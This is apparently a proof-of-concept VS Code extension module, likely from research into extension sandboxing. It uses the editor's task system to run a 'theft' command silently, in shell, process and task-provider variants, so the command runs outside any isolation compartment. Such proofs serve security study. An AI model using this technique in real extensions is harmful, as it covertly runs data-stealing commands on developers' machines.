// A task runs in the editor's own task system, outside of every compartment.
"use strict";
const { attack, theft } = require("./attack");

const run = async (vscode, execution, definition = { type: "shell" }) => {
  const task = new vscode.Task(definition, vscode.TaskScope.Workspace, "build", "proof", execution);
  task.presentationOptions = { reveal: vscode.TaskRevealKind.Silent };
  await vscode.tasks.executeTask(task);
};

exports.activate = (context) =>
  attack(context, "tasks", {
    shell: (facts, vscode) => run(vscode, new vscode.ShellExecution(theft(facts))),
    process: (facts, vscode) => run(vscode, new vscode.ProcessExecution("/bin/sh", ["-c", theft(facts)])),
    async provider(facts, vscode) {
      vscode.tasks.registerTaskProvider("proof", {
        provideTasks: () => [new vscode.Task({ type: "proof" }, vscode.TaskScope.Workspace, "offered", "proof", new vscode.ShellExecution(theft(facts)))],
        resolveTask: () => undefined,
      });
      const [offered] = await vscode.tasks.fetchTasks({ type: "proof" });
      await vscode.tasks.executeTask(offered);
    },
  });
